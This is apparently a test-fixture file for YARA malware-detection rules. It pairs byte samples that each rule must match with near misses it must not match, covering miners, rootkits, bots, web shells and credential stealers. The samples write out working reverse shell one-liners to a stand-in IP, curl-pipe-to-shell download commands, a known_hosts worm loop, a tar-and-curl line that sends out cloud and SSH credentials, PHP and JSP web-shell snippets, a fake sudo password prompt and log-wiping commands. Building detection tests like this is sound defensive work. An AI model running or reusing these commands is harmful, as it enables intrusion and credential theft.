"""Samples for the rules by family: for each rule bytes that it must match and a near miss that it must not match.

A sample is a header and the words that a rule looks for, never a program (a rule's condition: is about no more).
"""

from yara_samples import elf, script

SHELL = "/bin/" + "sh"
TEMPORARY = "/tmp/"  # noqa: S108 - a word in a sample, never a path that is opened
TCP = "/dev/" + "tcp/203.0.113.9/4444"
KEYS = (".aws/credentials", ".kube/config", ".docker/config.json", ".git-credentials", ".ssh/id_rsa", ".netrc")
UPX_CODE = bytes.fromhex("53515248 01fe56 4889fe 4889d7 31db31c9")
RANDOMX = bytes.fromhex(
    "53a5ac6d096671622b55b5db1749f4b4 07af7c6d0d716a8478d325174edca10d f162123fc67e949f4f79c0f445e3203e"
)
CRYPTONIGHT = bytes.fromhex("eb98a3412c20d3eb92cdbe7b9cb245c1 133edb2fa144d0cceba9791a309035e8")


def php(code: str) -> bytes:
    """Return a page of PHP."""
    return f"<?php {code} ?>".encode()


def page(*lines: str) -> bytes:
    """Return a Java server page."""
    return ("<%@ page %>\n<% " + "\n".join(lines) + " %>").encode()


def module(*strings: str) -> bytes:
    """Return a kernel module: a relocatable ELF file with its version magic."""
    return elf("vermagic=6.1.0 SMP", *strings, kind=1)


def segment(flags: int, sections: int = 0) -> bytes:
    """Return an ELF file of one segment with access flags (elf.h: 1 execute, 2 write, 4 read), and code."""
    head = bytearray(elf())[:64]
    head[56:58], head[60:62] = (1).to_bytes(2, "little"), sections.to_bytes(2, "little")
    program = (1).to_bytes(4, "little") + flags.to_bytes(4, "little") + bytes(48)
    return bytes(head) + program + b"\x6a\x29\x58\x99" * 8


def packed(body: bytes) -> bytes:
    """Return an ELF file without sections whose second segment is filled when it runs."""
    head = bytearray(elf())[:64]
    head[56:58] = (2).to_bytes(2, "little")
    return bytes(head) + (b"\x01\0\0\0\x05\0\0\0" + bytes(48)) * 2 + body


PHP_GET = "$_" + "GET['a']"
NOISE = bytes((number * 167 + number // 256 * 13) % 255 + 1 for number in range(20000))
AUTHTOK = ("pam_sm_" + "authenticate", "pam_get_authtok", "fopen64", "fprintf")

FAMILY_POSITIVE: dict[str, list[bytes]] = {
    "randomx_elf": [elf() + RANDOMX],
    "cryptonight_elf": [elf() + CRYPTONIGHT],
    "xmrig_renamed_elf": [elf("cn/fast", "cn/double", "rx/graft", "cn-pico/tlo", "job_id", "keepalived")],
    "xmrig_internals_elf": [elf("speed 10s/60s/15m", "H/s max", "dev donate", "cn_r_asm")],
    "gpu_miner_options_elf": [elf("kawpow", "autolykos2", "etchash", "octopus", "mining.submit", "hashrate")],
    "bitcoin_miner_elf": [elf("cgminer", "mining.subscribe", "stratum+tcp://", "longpoll")],
    "miner_proxy_elf": [elf("xmrig-proxy", "custom-diff"), elf("p2pool", "--stratum", "sidechain", "get_miner_data")],
    "node_addon_of_cryptonight": [elf("napi_register_module_v1", "cryptonight", "jh_hash", kind=3)],
    "cpuminer_config": [b'{"url": "http://198.51.100.7:9332", "user": "w", "pass": "x", "algo": "yescrypt"}'],
    "miner_pools_text": [b"POOL: eth.pool.example:4444, WALLET: 0x00000000000000, PSW: x\n"],
    "gpu_miner_command_line": [
        b"./a --algorithm randomx --pool pool.example:443 --wallet 4AAAAAAAAAAAAAAAAAAAAAAAA\n",
        b"./a -pool eth.example:4444 -wal 0x0000000000000000\n",
    ],
    "stratum_miner_in_script": [b"import socket\nx = 'mining.subscribe', 'mining.authorize', 'mining.submit'\n"],
    "web_miner_page": [b"<script>var m = new Coin" + b"Hive.Anonymous('key'); m.start();</script>"],
    "worm_over_known_hosts": [
        script(
            "for h in $(cat ~/.ssh/known_hosts ~/.bash_history); do",
            "ssh -oBatchMode=yes -oStrictHostKeyChecking=no $h 'curl http://203.0.113.9/a|sh' & done",
        )
    ],
    "loader_of_many_places": [
        b"cd /tmp || cd /var/run || cd /mnt; wget http://203.0.113.9/b; chmod 777 b; ./b; rm -rf b\n"
    ],
    "download_to_hidden_temporary_file": [
        script("curl -s https://h.example/a -o /tmp/.x1/a", "chmod +x /tmp/.x1/a", f"{TEMPORARY}.x1/a &")
    ],
    "campaign_names_in_script": [script("dota" + "3", ".X25-" + "unix", "wget http://203.0.113.9/x.tar")],
    "outlaw_key": [b"ssh-rsa AAAA" + b"B" * 360 + b"== mdr" + b"fckr\n"],
    "campaign_names_elf": [elf("wizl" + "msh", "libgc" + "wrap.so")],
    "redis_dump_with_cron_lines": [b"REDIS0009\xfa\n\n*/2 * * * * curl -fsSL http://203.0.113.9/a | bash\n\n"],
    "redis_dump_with_ssh_key": [b"REDIS0009\xfa\n\nssh-rsa AAAA" + b"C" * 200 + b" a@b\n\n"],
    "script_runs_program_from_memory": [
        script('my $f = syscall(319, $n, 1); exec {"/proc/$$/fd/$f"} "x";', interpreter="/usr/bin/perl")
    ],
    "python_runs_download": [b"import urllib.request\nexec(urllib.request.url" + b"open('http://h.example/a').read())"],
    "process_name_of_kernel_thread": [script("exec -a '[kworker/0:1]' /opt/a")],
    "compiled_shell_script": [elf("E: neither argv[0] nor $_ works.")],
    "upx_stub_without_magic": [elf() + bytes(4096) + UPX_CODE],
    "elf_without_sections_packed": [packed(NOISE)],
    "reverse_shell_bash": [
        f"sh -i 5<> {TCP} 0<&5 1>&5 2>&5\n".encode(),
        f"0<&196;exec 196<>{TCP}; sh <&196\n".encode(),
    ],
    "reverse_shell_netcat": [
        f"nc 203.0.113.9 4444 -e {SHELL}\n".encode(),
        f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|{SHELL} -i 2>&1|nc 203.0.113.9 4444 >/tmp/f\n".encode(),
        f"nc -l -p 4444 -e {SHELL}\n".encode(),
    ],
    "reverse_shell_openssl_socat": [
        f"{SHELL} -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/s\n".encode(),
        f"socat TCP:203.0.113.9:4444 EXEC:{SHELL}\n".encode(),
    ],
    "reverse_shell_awk": [
        (
            b"s = '/inet/tcp/0/203.0.113.9/4444'; while(1){print \"> \" |& s; s |& getline c;"
            b" while ((c |& getline) > 0) print $0 |& s;}"
        )
    ],
    "reverse_shell_python": [
        f"import socket,pty,os\ns=socket.socket()\nos.dup2(s.fileno(),0)\npty.spawn('{SHELL}')\n".encode().replace(
            b"socket.socket()", b"socket.socket(2, 1)"
        )
    ],
    "reverse_shell_perl_ruby_lua": [
        f"use IO::Socket::INET;\nopen(STDIN, '>&S');\nopen(STDOUT, '>&S');\nexec('{SHELL} -i');\n".encode(),
        f"f=TCPSocket.open('203.0.113.9',4444).to_i;exec sprintf('{SHELL} -i <&%d >&%d',f,f)".encode(),
    ],
    "reverse_shell_php": [
        php(f"$s = fsockopen($ip, $port); proc_open('uname -a; w; id; {SHELL} -i', array(\"pipe\", 'r'), $p);")
    ],
    "reverse_shell_node_java_go": [
        f"net = require('net'); sh = spawn('{SHELL}', []); c.pipe(sh.stdin); sh.stdout.pipe(c);".encode()
    ],
    "shellcode_elf": [segment(7)],
    "shellcode_socket_elf": [elf() + bytes.fromhex("6a2958996a025f6a015e0f05")],
    "reverse_shell_elf": [elf("dup2", "connect", "execve", "htons", SHELL)],
    "php_shell_functions": [
        php(f"create_function('', {PHP_GET});"),
        php(f"echo `{PHP_GET}`;"),
        php("eval(" + "file_get_contents('php://input'));"),
        php(f"array_filter(array('x'), {PHP_GET});"),
        php("preg_replace('/.*/e', 'eval($x)', '');"),
    ],
    "php_shell_of_a_known_name": [php("/* b37" + f"4k */ system({PHP_GET});")],
    "php_shell_with_key": [
        php("session_start(); $p = file_get_contents('php://input'); openssl_decrypt($p); eval($p);"),
        php('$kh="0123456789ab";$kf="cdef01234567";'),
    ],
    "php_decodes_and_runs": [php("ev" + f"al(base64_decode('{'QUJD' * 20}'));")],
    "php_names_in_pieces": [php("$a = ('`' ^ '!') . ('{' ^ '(');" + " eval($a);")],
    "php_in_image": [b"GIF89a<?php sys" + b"tem($_GET['a']);"],
    "php_upload_form": [php("copy($_FILES['f']['tmp_name'], $_FILES['f']['name']);")],
    "php_command_page": [php(f"$cmd = {PHP_GET}; " + "echo shell_exec($cmd);")],
    "jsp_runs_commands": [page('String c = request.getParameter("c");', "Runtime.getRuntime().exec(c);")],
    "jsp_loads_classes": [
        page(
            "class U extends ClassLoader { Class g(byte[] b) { return defineClass(b, 0, 1); } }",
            "Base64 request.getReader()",
        )
    ],
    "jsp_shell_class": [bytes.fromhex("cafebabe") + b"\0_jspService\0java/lang/Runtime\0getParameter"],
    "python_web_shell": [b"return os." + b"popen(request.args.get('c')).read()\n"],
    "python_command_page": [
        b"@app.route('/')\ndef a():\n    c = request.args.get('c')\n    return os.popen(c).read()\n"
    ],
    "cgi_shell": [script("echo 'Content-type: text/plain'", 'eval "$QUERY_STRING"')],
    "kernel_module_of_a_known_name": [module("hide_pid", "hide_module", "give_root")],
    "kernel_module_hooks_system_calls": [module("kallsyms_lookup_name", "__x64_sys_kill", "tcp4_seq_show")],
    "kernel_module_gives_root": [module("prepare_creds", "commit_creds", "kallsyms_lookup_name")],
    "kernel_module_starts_shell": [module("call_usermodehelper", "/bin/bash", TCP)],
    "ebpf_hides_or_steals": [
        elf("bpf_object__open_skeleton", ".maps", "sys_enter_getdents64", "sys_exit_getdents64", "Dual BSD/GPL")
    ],
    "preload_hooks_of_logins_and_files": [
        elf("dlsym", "readdir", "fopen", "opendir", "accept", "/proc/net/tcp", SHELL, kind=3)
    ],
    "preload_rootkit_of_a_known_name": [elf("dlsym", "clean_utmp", "hide_shell", kind=3)],
    "sshd_logs_passwords": [
        elf("OpenSSH_9.2", "/etc/ssh/sshd_config", "+user: %s " + "+password: %s"),
        elf("OpenSSH_9.2", "/etc/ssh/sshd_config", TEMPORARY + ".X11-unix/X", "/usr/lib/.p/log"),
    ],
    "keyutils_that_connects": [elf("keyctl_search", "keyctl_set_reqkey_keyring", "socket", "connect", kind=3)],
    "pam_module_keeps_passwords": [elf(*AUTHTOK, "/var/log/.pass", kind=3)],
    "pam_unix_with_a_second_door": [elf("pam_sm_chauthtok", "unix_chkpwd", TEMPORARY + "p", kind=3)],
    "pam_exec_takes_passwords": [b"auth optional pam_exec.so quiet expose_authtok /tmp/.a\n"],
    "script_keeps_pam_passwords": [script('PASS="$(cat -)"', 'echo "$PAM_USER:$PASS" >> /var/log/x')],
    "ssh_traced_for_passwords": [b"alias ssh='strace -o /tmp/l -e read,write ssh'\n"],
    "sudo_replaced_by_thief": [
        b"sudo() { echo -n '[sudo] password for me: '; read -s password; echo $password >> /tmp/p; }\n"
    ],
    "sshd_wrapper_script": [
        script("exec '/bin/sh' if getpeername(STDIN) =~ /^..LF/; # sshd", interpreter="/usr/bin/perl")
    ],
    "credentials_taken_and_sent": [script(f"tar c {' '.join(KEYS)} | curl -F 'f=@-' http://203.0.113.9/")],
    "metadata_credentials_sent": [
        script(
            "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/ > a",
            "curl -F 'f=@a' http://h.example",
        )
    ],
    "credential_thief_elf": [elf(*KEYS, "wallet.dat", "/etc/shadow")],
    "mimipenguin": [
        script("gnome-keyring-daemon lightdm", "gcore $p", "grep x /etc/shadow"),
        elf("_pammodutil_getpwnam_root_1", "libgck-1.so", "/proc/%d/mem"),
    ],
    "privilege_enumeration_script": [script("# linpeas", "find / -perm -4000", "sudo -l", "getcap -r /")],
    "password_recovery_tool": [
        script("# The LaZagne Project", "import lazagne.config", interpreter="/usr/bin/python3")
    ],
    "tunnel_program": [elf("github.com/fatedier/" + "frp/client")],
    "intruders_tunnel_program": [elf("rcsocks", "lcx_listen"), elf("github.com/nicocha30/" + "ligolo-ng/cmd")],
    "global_socket": [elf("gs-netcat", "GSOCKET_" + "SECRET")],
    "global_socket_deployed": [
        script('GS_ARGS="-s x -liqD" exec -a x /usr/bin/x', "curl -fsSL https://gsocket" + ".io/y")
    ],
    "command_and_control_agent": [elf("github.com/bishopfox/" + "sliver/implant/main")],
    "tiny_shell_and_relatives": [elf("s:p:c::", "TERM=%s", "exec bash --login")],
    "tunnel_settings": [b"[common]\nserver_addr = 203.0.113.9\n[ssh]\nremote_port = 6000\n"],
    "reverse_ssh_tunnel": [b"ExecStart=/usr/bin/ssh -N -R 2222:localhost:22 a@203.0.113.9\n"],
    "log_wiper_script": [script("> /var/log/wtmp", "rm -rf /var/log/auth.log", "history -c")],
    "log_wiper_elf": [elf("wtmp", "lastlog", "Zap!")],
    "exploit_dirty_cow": [elf("madviseThread", "procselfmemThread")],
    "exploit_dirty_pipe": [elf("splice", "Backing up /etc/passwd")],
    "exploit_pwnkit": [elf("GCONV_PATH=.", "pkexec", "CHARSET=x")],
    "exploit_overlayfs": [b"unshare -rm sh -c 'mkdir l u w m; setcap cap_setuid+eip l/p; mount -t overlay o'"],
    "exploit_sudo_or_loader": [elf("sudoedit", "libnss_X", "LC_MESSAGES=")],
    "exploit_modprobe_path": [elf("/proc/sys/kernel/modprobe", "chmod u+s", "setresuid")],
    "container_escape_script": [script("mount -t cgroup -o rdma c /tmp/c", "release_agent", "notify_on_release")],
    "bot_mirai": [elf("/dev/watchdog", "/dev/misc/watchdog", "/bin/busybox X", "applet not found")],
    "bot_gafgyt": [elf("KILLATTK", "LOLNOGTFO", "My IP: %s")],
    "bot_tsunami": [elf("GETSPOOFS", "TSUNAMI <target> <secs>")],
    "bot_xorddos": [elf("BB2FA36AAA" + "9541F0")],
    "bot_go_and_cpp": [elf("main.runshouhu", "main.runganran")],
    "bot_perl_irc": [
        script("use IO::Socket;", "PRIVMSG NICK x", "udpflood tcpflood portscan", interpreter="/usr/bin/perl")
    ],
    "bot_perl_packed": [b"eval unpack u=>q{_" + b"A" * 40 + b"};"],
    "network_scanner": [elf("masscan", "--rate", "--adapter-ip")],
    "scanner_with_exploits": [elf("github.com/shadow1ng/" + "fscan")],
    "password_guesser": [elf("hydra.restore")],
    "ssh_password_guesser": [elf("libssh2_userauth_password", "passfile", "uname -a")],
}
"""For every rule by family, bytes that it must match."""

FAMILY_NEGATIVE: dict[str, bytes] = {
    "a node with RandomX": elf() + RANDOMX + b"cryptonote::core",
    "the library of RandomX": elf("randomx_calculate_hash", kind=3) + RANDOMX,
    "one of CryptoNight's hash functions": elf() + CRYPTONIGHT[:16],
    "names of algorithms without a pool": elf("cn/fast", "cn/double", "rx/graft", "cn-pico/tlo"),
    "a library of hashes": elf("kawpow", "etchash", "equihash", "yespower", "verushash"),
    "settings with a url, a user and an algorithm": b'{"url": "https://h.example:443", "user": "w", "algo": "sha256"}',
    "a pool of workers on a command line": b"app --pool db.example:5432 --user admin\n",
    "a copy over SSH": script("while read h; do ssh -oBatchMode=yes $h 'uptime'; done < ~/.ssh/known_hosts"),
    "a change of directory and a download": b"cd /tmp && wget https://h.example/a.tar && tar xf a.tar\n",
    "a download to a temporary file": script("curl -s https://h.example/a -o /tmp/a.tar", "tar xf /tmp/a.tar"),
    "a key of an administrator": b"ssh-rsa AAAA" + b"B" * 360 + b"== me@host\n",
    "a dump of Redis with a timer": b"REDIS0009\xfa job * * * * * clean",
    "a program with few sections in use": packed(bytes(20000)),
    "a test of ports": b"nc -z -w 1 h.example 22 && echo open; exec 3<>/dev/tcp/h.example/80; echo GET >&3\n",
    "socat between ports": b"socat TCP-LISTEN:80,fork TCP:10.0.0.2:80\n",
    "openssl as a client": b"echo | openssl s_client -connect h.example:443 | openssl x509 -noout -dates\n",
    "a server in Python": b"import socket\ns = socket.socket(2, 1)\ns.bind(('', 80))\nos.dup2(f.fileno(), 1)\n",
    "a program of one segment": segment(5),
    "a small server": elf("dup2", "bind", "htons", "getopt_long", "execve"),
    "a page whose comment names the request": php("/* The name comes in `$_POST['a']`. */ echo strlen($_POST['a']);"),
    "a page that filters": php("$a = array_filter($_POST['a']); $b = array_map('intval', $_POST['b']);"),
    "an image with the word": b"GIF89a" + b"<?php" + bytes(40),
    "an upload with a name of its own": php("move_uploaded_file($_FILES['f']['tmp_name'], $path);"),
    "a page that shows a parameter": page('String c = request.getParameter("c");', "out.print(encode(c));"),
    "a class of a page": bytes.fromhex("cafebabe") + b"\0_jspService\0getParameter",
    "a view of Flask": b"@app.route('/')\ndef a():\n    c = request.args.get('c')\n    subprocess.run(['ls'])\n",
    "a module that traces": module("register_kprobe", "kallsyms_lookup_name", "__x64_sys_openat"),
    "a module with credentials": module("prepare_creds", "commit_creds", "vfs_open"),
    "a library that fakes a root": elf("dlsym", "readdir", "fopen", "opendir", "__xstat", "lstat", SHELL, kind=3),
    "sshd as it is shipped": elf(
        "OpenSSH_9.2", "/etc/ssh/sshd_config", TEMPORARY + ".X11-unix/X", "Accepted %s for %s"
    ),
    "libkeyutils as it is shipped": elf("keyctl_search", "keyctl_set_reqkey_keyring", "syscall", kind=3),
    "pam_unix as it is shipped": elf(*AUTHTOK, "unix_chkpwd", "pam_sm_chauthtok", "/etc/.pwdXXXXXX", kind=3),
    "pam_exec with a script of the system": b"auth optional pam_exec.so expose_authtok /usr/local/sbin/unlock\n",
    "a prompt like sudo's": b"echo '[sudo] password for me:'; sudo -v\n",
    "a backup of keys": script(f"tar cf /backup/keys.tar {' '.join(KEYS)}", "ls > /dev/null"),
    "what a machine may ask about itself": script("curl http://169.254.169.254/latest/meta-data/iam/info"),
    "a client of one cloud": elf(".aws/credentials", ".docker/config.json", ".netrc", ".npmrc"),
    "a script that rotates": script("> /var/log/wtmp", "logrotate -f /etc/logrotate.conf"),
    "last": elf("wtmp", "utmp", "lastlog", "%s begins %s"),
    "pkexec": elf("pkexec", "GCONV_PATH", "CHARSET"),
    "an image builder": script("docker run -v /srv:/srv x chroot /srv"),
    "busybox": elf("/dev/watchdog", "applet not found", "BusyBox v1.36"),
    "a client of IRC": script("use IO::Socket;", "PRIVMSG NICK x", interpreter="/usr/bin/perl"),
    "a client of SSH": elf("libssh2_userauth_password", "uname -a", "passphrase"),
}
"""What stands beside the families on clean servers: nothing above low may match."""
